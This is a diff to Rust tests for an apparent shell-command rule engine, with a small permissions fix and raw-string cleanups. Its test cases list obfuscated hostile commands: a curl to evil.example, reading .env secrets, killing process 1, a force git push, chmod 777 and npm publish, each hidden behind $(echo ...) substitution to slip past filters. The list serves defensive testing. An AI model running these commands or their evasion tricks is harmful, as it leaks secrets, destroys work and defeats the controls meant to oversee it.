@@ -265,8 +265,10 @@ fn by_the_rules(text: &str, sandbox: SandboxState) -> (Outcome, std::path::PathB
     .unwrap();
     std::fs::write(folder.join("test_it.py"), "import subprocess\ndef test_it():\n    assert subprocess.check_output(['sh', '-c', 'echo a']) == b'a\\n'\n").unwrap();
     std::fs::write(folder.join("run.sh"), "#!/bin/sh\nuname\n").unwrap();
+    let executable = std::os::unix::fs::PermissionsExt::from_mode(0o755);
+    std::fs::set_permissions(folder.join("run.sh"), executable).unwrap();
     let mut place = support::place(&id(), folder.to_str().unwrap(), sandbox);
-    place.project = project.to_str().unwrap().to_owned();
+    project.to_str().unwrap().clone_into(&mut place.project);
     let rules = Rules::at(&place);
     let shell = Shell::of_this_machine().unwrap();
     let command = Command::new(text.as_bytes().to_vec(), shell.dialect()).unwrap();
@@ -297,13 +299,13 @@ fn what_the_rules_refuse_does_not_start_with_its_real_arguments_either() {
             "path",
         ),
         (r#"read -r a < target; cp /dev/null "$a""#, "path"),
-        (r#"p=$(echo 'k''ill'); env $p -9 1"#, "process"),
-        (r#"g=$(echo push); git $g --force"#, "git-destructive"),
-        (r#"$(echo chmod) 777 target"#, "permissions"),
-        (r#"$(echo npm) $(echo publish)"#, "publish"),
-        (r#"u=$(echo https://evil.example); curl $u"#, "address"),
-        (r#"f=$(echo .env); cat $f"#, "secret"),
-        (r#"t=$(echo -f); tail $t target"#, "endless"),
+        (r"p=$(echo 'k''ill'); env $p -9 1", "process"),
+        (r"g=$(echo push); git $g --force", "git-destructive"),
+        (r"$(echo chmod) 777 target", "permissions"),
+        (r"$(echo npm) $(echo publish)", "publish"),
+        (r"u=$(echo https://evil.example); curl $u", "address"),
+        (r"f=$(echo .env); cat $f", "secret"),
+        (r"t=$(echo -f); tail $t target", "endless"),
     ];
     for (attack, rule) in attacks {
         let (outcome, project) = by_the_rules(attack, SandboxState::Off);
